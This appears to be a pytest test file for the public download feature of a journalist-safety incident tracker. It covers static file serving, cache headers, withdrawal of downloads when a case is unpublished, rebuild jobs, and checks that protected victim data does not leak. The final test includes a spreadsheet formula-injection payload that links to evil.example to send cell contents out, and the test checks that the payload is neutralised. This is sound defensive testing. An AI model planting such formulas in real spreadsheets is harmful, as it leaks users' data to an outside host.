"""Full public downloads (issue 18): records read as plain columns are the records the ORM path
builds; full files are built by a builder, served as static files (ETag, Last-Modified, ranges,
gzip), stated with their size and build time, and withdrawn the moment a case they hold leaves
the public."""

import csv
import gc
import gzip
import io
import json
from datetime import UTC, date, datetime

import pytest
import sqlalchemy as sa
from flask_babel import force_locale, format_datetime, format_decimal

from tests import factories
from tracker.cases import operations as case_ops
from tracker.cases.models import Incident
from tracker.core import sqlite
from tracker.core.transaction import transaction
from tracker.demo import generator as demo
from tracker.extensions import db
from tracker.jobs import runner
from tracker.jobs.models import Job
from tracker.maps import operations as map_operations
from tracker.public import downloads, queries


def _public(**over):
    return factories.create_incident(workflow_status="published", **over)


@pytest.fixture
def protected_case():
    """A public case with a protected victim, an internal source and a confidential note."""
    hidden = factories.create_journalist(name_ar="اسم محمي", name_en="Protected Name")
    return _public(
        latitude=15.123456, longitude=44.654321, geo_precision="exact", public_geo_precision="admin1",
        confidential_notes="ملاحظة سرية",
        sources=[{"url": "https://example.org/a", "reliability": 4},
                 {"url": "https://example.org/b", "title": "مصدر داخلي", "is_internal": True}],
        victims=[{"journalist_id": hidden.id, "outcome": "detained", "is_identity_protected": True},
                 {"journalist": {"name_ar": "صحفية معروفة", "name_en": "Known Reporter"}, "outcome": "injured"}],
        perpetrators=[{"type": "non_state_armed_group", "name_ar": "جماعة مسلحة", "name_en": "An armed group"}],
    )  # fmt: skip


def _orm_records(filters: dict) -> list[dict]:
    stmt = (
        sa.select(Incident).where(*queries.public_conditions(filters))
        .order_by(Incident.date_start.desc(), Incident.id.desc())
    )  # fmt: skip
    return queries.records(db.session.scalars(queries._with_details(stmt)).all())


def test_streamed_records_are_the_records_of_the_one_public_path(protected_case):
    with transaction():
        demo.load(120, seed=4)
    streamed = list(queries.iter_records({}, chunk=7))
    assert streamed == _orm_records({})
    assert len(streamed) == queries.count({}) > 50
    text = json.dumps(streamed, ensure_ascii=False)
    for secret in ("اسم محمي", "Protected Name", "ملاحظة سرية", "مصدر داخلي", "15.123456"):
        assert secret not in text
    filters = {"country": ["YE"], "group": ["detention"]}
    assert list(queries.iter_records(filters, chunk=5)) == _orm_records(filters)


# --- full downloads as files -----------------------------------------------------------------


@pytest.fixture
def downloads_dir(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "DOWNLOADS_DIR", str(tmp_path / "downloads"))
    return tmp_path / "downloads"


@pytest.fixture
def three(protected_case):
    return [protected_case, _public(date_start="2023-05-01"), _public(date_start="2022-01-09")]


def _content(fmt: str, body: bytes):
    """What a file says: its bytes, or an XLSX workbook's cells (a zip stamps its build time)."""
    if fmt != "xlsx":
        return body
    from openpyxl import load_workbook

    return list(load_workbook(io.BytesIO(body), read_only=True).worksheets[0].iter_rows(values_only=True))


def _get(client, fmt: str, **headers):
    return client.get(f"/api/public/v1/incidents.{fmt}", headers=headers)


@pytest.mark.parametrize("fmt", downloads.FORMATS)
def test_a_prepared_file_is_the_streamed_download_served_static(plain_client, three, downloads_dir, fmt):
    streamed = _get(plain_client, fmt)
    assert (
        streamed.status_code == 200 and "Accept-Ranges" not in streamed.headers
    )  # streamed, not the static file
    streamed.get_data()  # read to its end before the build (one connection is every test session's)
    downloads.build_full()
    served = _get(plain_client, fmt)
    assert served.status_code == 200 and _content(fmt, served.data) == _content(fmt, streamed.data)
    assert served.headers["Content-Type"] == streamed.headers["Content-Type"]
    assert served.headers["Last-Modified"] and served.headers["ETag"]
    assert served.headers["Accept-Ranges"] == "bytes"
    assert "filename=incidents." in served.headers["Content-Disposition"]
    again = _get(plain_client, fmt, **{"If-None-Match": served.headers["ETag"]})
    assert again.status_code == 304
    part = _get(plain_client, fmt, Range="bytes=10-109")
    assert part.status_code == 206 and part.data == served.data[10:110]
    assert not list(downloads_dir.rglob("*.part"))


@pytest.mark.parametrize("fmt", downloads.COMPRESSED)
def test_a_client_that_takes_gzip_gets_the_precompressed_copy(plain_client, three, downloads_dir, fmt):
    downloads.build_full()
    plain = _get(plain_client, fmt)
    packed = _get(plain_client, fmt, **{"Accept-Encoding": "gzip, deflate"})
    assert packed.headers["Content-Encoding"] == "gzip" and "Accept-Encoding" in packed.headers["Vary"]
    assert gzip.decompress(packed.data) == plain.data and len(packed.data) < len(plain.data)
    assert packed.headers["ETag"] != plain.headers["ETag"]


def test_a_range_is_of_the_file_itself_even_for_a_client_that_takes_gzip(plain_client, three, downloads_dir):
    downloads.build_full()
    whole = _get(plain_client, "csv").data
    part = _get(plain_client, "csv", Range="bytes=10-109", **{"Accept-Encoding": "gzip"})
    assert part.status_code == 206 and "Content-Encoding" not in part.headers
    assert part.data == whole[10:110] and part.headers["Content-Range"] == f"bytes 10-109/{len(whole)}"
    packed = _get(plain_client, "xlsx", **{"Accept-Encoding": "gzip"})  # a zip already: as it is
    assert packed.status_code == 200 and "Content-Encoding" not in packed.headers


def test_a_rebuilt_file_is_new_to_a_client_holding_the_last_one(plain_client, three, downloads_dir):
    """Last-Modified is the build's time and answers If-Modified-Since; a client holding the file
    of an earlier build (its ETag) gets the new one."""
    first = downloads.build_full()
    served = _get(plain_client, "csv")
    built_at = db.session.get(downloads.PublicFile, first).built_at
    assert served.last_modified == built_at.replace(microsecond=0, tzinfo=served.last_modified.tzinfo)
    assert (
        _get(plain_client, "csv", **{"If-Modified-Since": served.headers["Last-Modified"]}).status_code == 304
    )
    corrected = three[2]
    case_ops.update_incident(corrected, {"title_en": "Corrected title"}, factories.SYSTEM, corrected.version)
    db.session.commit()
    downloads.build_full()
    again = _get(plain_client, "csv", **{"If-None-Match": served.headers["ETag"]})
    assert again.status_code == 200 and "Corrected title" in again.data.decode("utf-8-sig")
    assert again.headers["ETag"] != served.headers["ETag"]


def test_a_case_leaving_the_public_withdraws_the_prepared_files_at_once(plain_client, three, downloads_dir):
    downloads.build_full()
    leaving = three[1]
    assert leaving.public_ref in _get(plain_client, "csv").data.decode("utf-8-sig")
    case_ops.transition_incident(leaving, "archived", factories.SYSTEM)
    db.session.commit()
    assert downloads.ready() is None and downloads.describe() == {}
    for fmt in downloads.FORMATS:
        response = _get(plain_client, fmt)
        assert response.data and "Accept-Ranges" not in response.headers  # streamed from the database
    text = _get(plain_client, "csv").data.decode("utf-8-sig")
    assert leaving.public_ref not in text and three[0].public_ref in text
    downloads.build_full()
    assert leaving.public_ref not in _get(plain_client, "csv").data.decode("utf-8-sig")
    assert downloads.ready() is not None


def _rebuild_jobs(state: str | None = None) -> list[Job]:
    stmt = sa.select(Job).where(Job.kind == downloads.REBUILD)
    return list(db.session.scalars(stmt.where(Job.state == state) if state else stmt))


def test_a_public_change_queues_one_rebuild_job_and_the_stale_files_wait_for_it(
    plain_client, three, downloads_dir
):
    """The signal that withdraws the files also queues their rebuild (one queued at a time);
    until it has run, the full downloads stream from the database (never the stale file)."""
    downloads.build_full()
    leaving, corrected = three[1], three[2]
    case_ops.transition_incident(leaving, "archived", factories.SYSTEM)
    db.session.commit()
    case_ops.update_incident(corrected, {"title_en": "Corrected title"}, factories.SYSTEM, corrected.version)
    db.session.commit()
    (queued,) = _rebuild_jobs("queued")
    assert queued.dedupe_key == downloads.REBUILD and queued.created_by_id is None
    assert downloads.ready() is None and "Accept-Ranges" not in _get(plain_client, "csv").headers
    assert runner.drain() >= 1
    assert [j.state for j in _rebuild_jobs()] == ["done"]
    served = _get(plain_client, "csv")
    assert served.headers["Accept-Ranges"] == "bytes"  # the new file, served static
    text = served.data.decode("utf-8-sig")
    assert leaving.public_ref not in text and "Corrected title" in text and three[0].public_ref in text


def test_a_change_to_a_case_that_never_was_public_queues_nothing(downloads_dir):
    draft = factories.create_incident(workflow_status="draft")
    case_ops.update_incident(draft, {"title_en": "Still a draft"}, factories.SYSTEM, draft.version)
    db.session.commit()
    assert _rebuild_jobs() == []


def test_a_failed_build_leaves_the_last_build_served(plain_client, three, downloads_dir, monkeypatch):
    first = downloads.build_full()
    before = _get(plain_client, "json").data

    def broken(records):
        yield b"half a file"
        raise RuntimeError("disk full")

    monkeypatch.setitem(downloads.formats.DOWNLOADS, "xlsx", (broken, "application/octet-stream"))
    with pytest.raises(RuntimeError):
        downloads.build_full()
    assert downloads.ready().id == first
    assert _get(plain_client, "json").data == before
    assert not list(downloads_dir.rglob("*.part"))


def test_the_builder_reports_progress_and_states_size_and_time(three, downloads_dir):
    calls = []
    downloads.build_full(progress=lambda done, total, message=None: calls.append((done, total, message)))
    assert calls[-1] == (3 * len(downloads.FORMATS),) * 2 + (None,)
    described = downloads.describe()
    assert set(described) == set(downloads.FORMATS)
    assert all(d["size"] > 0 and d["built_at"] is not None for d in described.values())


def _stated(lang: str) -> list[str]:
    """What the map page must state: each file's size, and the last build's time."""
    described = downloads.describe()
    with force_locale(lang):
        sizes = [format_decimal(round(d["size"] / 1e6, 1)) for d in described.values()]
        return [*sizes, format_datetime(next(iter(described.values()))["built_at"], "short")]


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_the_map_page_states_the_size_and_time_of_the_full_files(client, three, downloads_dir, lang):
    assert 'id="download-csv"' not in client.get(f"/?lang={lang}").data.decode()  # nothing built yet
    downloads.build_full()
    page = client.get(f"/?lang={lang}").data.decode()
    assert 'id="download-csv"' in page and 'id="download-xlsx"' in page
    assert (
        ("MB" in page and "rebuilt" in page)
        if lang == "en"
        else ("ميغابايت" in page and "أعيد بناؤها" in page)
    )
    section = page[page.index("full-downloads") :]
    assert all(figure in section for figure in _stated(lang))


def test_the_map_page_states_the_last_build_and_no_withdrawn_one(client, three, downloads_dir, monkeypatch):
    """The page (kept by version) follows the builds: the new build's figures once it is
    served, no full files while the last build is withdrawn."""
    downloads.build_full()
    assert 'id="download-csv"' in client.get("/?lang=en").data.decode()
    case_ops.transition_incident(three[1], "archived", factories.SYSTEM)
    db.session.commit()
    assert 'id="download-csv"' not in client.get("/?lang=en").data.decode()
    later = datetime(2031, 5, 6, 7, 8, tzinfo=UTC)  # a build time the page cannot state by chance
    monkeypatch.setattr(downloads.operations, "utcnow", lambda: later)
    downloads.build_full()
    map_operations.public_files_rebuilt()  # as the rebuild job does
    page = client.get("/?lang=en").data.decode()
    assert 'id="download-csv"' in page and all(figure in page for figure in _stated("en"))


# --- datapackage.json ------------------------------------------------------------------------


def _conforms(field: dict, cell: str) -> bool:
    if cell == "":
        return True
    if "enum" in field.get("constraints", {}) and cell not in field["constraints"]["enum"]:
        return False
    kind = field["type"]
    if kind == "date":
        return bool(date.fromisoformat(cell))
    if kind == "number":
        return float(cell) == float(cell)
    if kind == "integer":
        return cell.lstrip("-").isdigit()
    if kind == "boolean":
        return cell in field["trueValues"] + field["falseValues"]
    return True


def test_the_data_package_describes_every_cell_of_the_public_csv(plain_client, protected_case):
    with transaction():
        demo.load(80, seed=6)
    package = plain_client.get("/api/public/v1/datapackage.json").get_json()
    (resource,) = package["resources"]
    assert resource["path"].endswith("/api/public/v1/incidents.csv") and resource["path"].startswith("http")
    fields = resource["schema"]["fields"]
    body = plain_client.get("/api/public/v1/incidents.csv").data.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(body)))
    assert [f["name"] for f in fields] == header and len(rows) > 50
    bad = [
        (f["name"], cell)
        for row in rows
        for f, cell in zip(fields, row, strict=True)
        if not _conforms(f, cell)
    ]
    assert not bad, bad[:5]
    assert "/datapackage.json" in plain_client.get("/api/public/v1/openapi.json").get_json()["paths"]


# --- streamed downloads ----------------------------------------------------------------------


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("fmt", downloads.FORMATS)
def test_a_streamed_download_read_in_another_context_or_dropped_leaves_no_context_behind(client, three, fmt):
    """A server may read a streamed body in another context than the request's, and a visitor
    may leave mid-file: the generator's own application context is entered and left for each
    piece, never across a pause, so neither fails nor leaves a context pushed."""
    with transaction():
        demo.load(1200, seed=3)  # more than one chunk of records
    url = f"/api/public/v1/incidents.{fmt}?country=YE"
    whole = client.get(url)  # the isolating client: first piece read in the request's context
    assert whole.status_code == 200 and "Accept-Ranges" not in whole.headers
    body = whole.get_data()
    if fmt == "csv":
        assert body.decode("utf-8-sig").count("YE-") >= queries.count({"country": ["YE"]})
    elif fmt == "xlsx":
        assert len(_content(fmt, body)) >= queries.count({"country": ["YE"]})
    else:
        json.loads(body)
    dropped = client.get(url)  # left after the first piece
    assert dropped.status_code == 200
    dropped.close()
    del dropped
    gc.collect()
    from flask import current_app

    assert current_app._get_current_object() is not None  # the test's own context is still there


def test_a_streamed_download_only_reads(plain_client, three, monkeypatch):
    """Generated after the request is gone, a streamed file still begins read-only transactions
    (on SQLite, a write lock held for the minutes of a large file would stop every writer)."""
    seen = []
    records = queries.iter_records

    def watched(filters, **kw):
        seen.append(sqlite.may_write())
        yield from records(filters, **kw)

    monkeypatch.setattr(queries, "iter_records", watched)
    assert plain_client.get("/api/public/v1/incidents.csv?country=YE").get_data()
    assert seen == [False]


# --- XLSX streamed as its records are read ---------------------------------------------------

FILTERED = "year_from=2000"


def test_a_filtered_xlsx_download_comes_in_pieces_as_its_records_are_read(plain_client, three, monkeypatch):
    """The first bytes leave before any record is read, and more follow while the records are
    still being read (keyset chunks of 100 here): the workbook is never whole in the request."""
    with transaction():
        demo.load(1200, seed=5)
    total = queries.count({"year_from": 2000})
    read = []
    records = queries.iter_records

    def watched(filters, **kw):
        for record in records(filters, chunk=100):
            read.append(record["public_ref"])
            yield record

    monkeypatch.setattr(queries, "iter_records", watched)
    response = plain_client.get(f"/api/public/v1/incidents.xlsx?{FILTERED}", buffered=False)
    assert response.status_code == 200 and response.is_streamed and read == []
    pieces = iter(response.response)
    assert next(pieces).startswith(b"PK") and read == []
    arrived = [len(read) for _piece in pieces]
    response.close()
    assert len(read) == total > 800
    assert len(arrived) >= 2 and arrived[0] < total


def _csv_table(client, query: str) -> list[list[str]]:
    body = client.get(f"/api/public/v1/incidents.csv?{query}").data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _as_csv_cell(value) -> str:
    if value is None:
        return ""
    return value if isinstance(value, str) else repr(value)


def test_a_filtered_xlsx_holds_exactly_the_csv_rows(plain_client, three):
    from openpyxl import load_workbook

    with transaction():
        demo.load(60, seed=7)
    table = _csv_table(plain_client, FILTERED)
    body = plain_client.get(f"/api/public/v1/incidents.xlsx?{FILTERED}").data
    for read_only in (True, False):
        sheet = load_workbook(io.BytesIO(body), read_only=read_only).worksheets[0]
        rows = [[_as_csv_cell(value) for value in row] for row in sheet.iter_rows(values_only=True)]
        assert rows == table and len(rows) > 20
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    assert sheet.sheet_view.rightToLeft and sheet.title == "incidents"
    header = [cell.value for cell in sheet[1]]
    numbers = {header[cell.column - 1] for row in sheet.iter_rows(min_row=2) for cell in row
               if cell.value is not None and cell.data_type == "n"}  # fmt: skip
    assert {"latitude", "longitude"} <= numbers <= {"latitude", "longitude", "unnamed_victims"}
    titles = {cell.value for cell in sheet["B"]}
    assert any(title and "\u0600" <= title[0] <= "\u06ff" for title in titles)  # Arabic text as it is


def test_a_formula_looking_title_stays_text_in_the_xlsx(plain_client):
    link = '=HYPERLINK("https://evil.example/?"&A2, "open")'
    _public(title_en=link, title_ar="@x", summary_en="+1", summary_ar="-2+3")
    from openpyxl import load_workbook

    body = plain_client.get(f"/api/public/v1/incidents.xlsx?{FILTERED}").data
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row if cell.value}
    assert not [value for value, kind in cells.items() if kind == "f"]
    for text in ("'" + link, "'@x", "+1", "'-2+3"):  # as in the CSV (spreadsheet.safe_text)
        assert cells[text] == "s", text
